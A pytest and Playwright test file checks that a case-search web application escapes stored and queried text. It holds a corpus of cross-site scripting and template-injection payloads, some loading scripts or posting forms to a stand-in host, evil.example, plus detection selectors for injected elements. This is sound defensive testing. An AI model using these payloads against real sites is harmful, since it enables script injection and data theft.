"""A corpus of markup that would run, in every text that is stored or asked, looked at in a real browser.

The policy of the pages would stop most of it; here it must not even become an element, an attribute or an address.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
from browsing import chromium, on_loopback
from playwright.sync_api import Browser, Page
from search_cases import build_archive
from site_cases import hostile_draft, site_of
from toy_encoder import ToyEncoder

from indexer.case_store import CaseStore
from indexer.rebuild import rebuild

pytestmark = pytest.mark.browser
# After the kinds of the OWASP cheat sheet: elements, handlers, addresses, broken nesting, templates, other spellings.
CORPUS = (
    "<script>window.ran=1</script>",
    "<ScRiPt/src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=window.ran=1>",
    "<svg/onload=window.ran=1>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<details open ontoggle=window.ran=1>x</details>",
    "<a href='javascript:window.ran=1'>x</a>",
    "<a href=' java\tscript:window.ran=1'>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button id=steal>x</button></form>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '" autofocus onfocus=window.ran=1 x="',
    "' onmouseover=window.ran=1 x='",
    "</textarea></title></style></script><script>window.ran=1</script>",
    "--><script>window.ran=1</script><!--",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "{{7777*7777}}${7777*7777}<%= 7777*7777 %>#{7777*7777}",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "<bdo dir=rtl>\u202e<script>window.ran=1</script>",
)
# What no text may become; the site's own scripts come from its folder, and its pages have none of the others.
INTRUDERS = (
    "script:not([src^='/static/']), iframe, object, embed, base, meta[http-equiv], style, form[action*='//evil'],"
    " link[href*='//evil'], animate, math, noscript, bdo, #steal, [autofocus][x]"
)
HANDLERS = """() => [...document.querySelectorAll('*')].flatMap(element => [...element.attributes])
    .filter(one => one.name.startsWith('on') || /^\\s*java\\s*script:/i.test(one.value)).map(one => one.name)"""


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, tuple[str, ...]]:
    """A data directory with one case for each text of the corpus, which stands in all of its fields."""
    folder = tmp_path_factory.mktemp("markup")
    data = build_archive(folder)
    drafts = [
        hostile_draft(folder / f"markup{number:02d}_T2w.nii.gz", text, 2_000 + number)
        for number, text in enumerate(CORPUS)
    ]
    with CaseStore.open(data) as store:
        for draft in drafts:
            store.put(draft)
    rebuild(data, ToyEncoder())
    return data, tuple(draft.key for draft in drafts)


@pytest.fixture(scope="module")
def address(keys: tuple[Path, tuple[str, ...]]) -> Iterator[str]:
    with on_loopback(site_of(keys[0])) as address:
        yield address


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


@pytest.fixture(scope="module")
def page(browser: Browser, address: str) -> Iterator[Page]:
    context = browser.new_context(base_url=address)
    page = context.new_page()
    asked: list[str] = []
    said: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: said.append(message.text))
    page.on("dialog", lambda dialog: said.append(dialog.message))
    yield page
    context.close()
    assert [url for url in asked if not url.startswith((f"{address}/", "data:"))] == []
    # Not even refused by the policy: there was nothing to refuse.
    assert [line for line in said if "Content Security Policy" in line or "ran" in line] == []


@pytest.mark.parametrize("number", range(len(CORPUS)), ids=lambda number: CORPUS[number][:40])
def test_no_text_becomes_markup(page: Page, address: str, keys: tuple[Path, tuple[str, ...]], number: int) -> None:
    text, key = CORPUS[number], keys[1][number]
    made = httpx.post(f"{address}/api/collections", json={"title": f"{number} {text}"}, trust_env=False)
    name = made.json()["name"]
    entry = {"key": key, "note": f"note {text}"}
    httpx.post(f"{address}/api/collections/{name}/examinations", json=entry, trust_env=False).raise_for_status()
    asked = quote(text, safe="")
    shown = 0
    for path in (
        f"/case/{key}?q=craniopharyngioma",
        f"/collections/{name}",
        "/collections",
        f"/search?q=craniopharyngioma+{asked}",
        f"/search?q=glioma&source={asked}&finding={asked}&since={asked}",
        f"/triage?operating_point={asked}",
        f"/sign-in?after={asked}",
        f"/{asked}",
    ):
        page.goto(path)
        assert page.evaluate("window.ran") is None, path
        assert page.locator(INTRUDERS).count() == 0, path
        assert page.evaluate(HANDLERS) == [], path
        body = page.locator("body").inner_text()
        assert "60481729" not in body or "7777*7777" in body, path
        shown += text.replace("\u202e", "").replace("\t", " ")[:20] in body
    assert shown >= 2, "the text was to be seen as text"
